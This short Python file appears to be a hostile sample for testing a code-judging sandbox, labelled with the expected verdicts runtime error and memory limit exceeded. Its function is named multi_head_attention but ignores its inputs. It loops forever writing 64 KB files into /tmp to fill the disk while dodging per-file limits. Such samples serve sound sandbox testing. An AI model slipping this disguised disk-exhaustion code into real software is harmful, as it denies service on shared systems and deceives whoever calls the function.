# verdict: RE, MLE
"""Fills /tmp with small files, each of them within any limit on files."""


def multi_head_attention(query, key, value, w_q, w_k, w_v, w_o, num_heads, mask=None):
    number = 0
    while True:
        number += 1
        with open(f"/tmp/filled-{number}", "wb") as file:
            file.write(b"x" * (1 << 16))
